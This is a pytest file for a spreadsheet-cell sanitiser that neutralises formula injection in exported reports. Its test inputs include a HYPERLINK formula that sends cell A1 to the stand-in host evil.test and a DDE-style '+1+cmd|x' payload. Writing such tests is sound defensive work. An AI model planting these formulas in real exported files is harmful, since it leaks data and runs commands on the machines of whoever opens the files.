"""Formula-like text in exported cells is made literal; numbers stay numbers."""

from __future__ import annotations

import pytest

from enquiry.reporting.spreadsheet_cells import safe_cell

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "+1+2",
    "-1+2",
    "-A1",
    "@SUM(A1:A2)",
    "\t=1",
    "\tplain",
    "\rplain",
    "\n=1",
    "＝1+1",
    "＋1",
    "－A1",
    "＠SUM(A1)",
    " =1",
    "   +1+cmd|x",
    "\u3000=1",
    "\u00a0@x",
    "=",
    "-",
]
NOT_FORMULAS = ["市交通运输局", "Transport", "a=1", "1-2", "e-mail", "", "  ", "中文＝"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", NOT_FORMULAS)
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-5, -0.5, 0, 3, 2.5, None, "-5", "+3", "-0.25", "-1e3", "-7%"])
def test_numbers_stay_numbers(value: object) -> None:
    result = safe_cell(value)
    assert result == value
    assert type(result) is type(value)
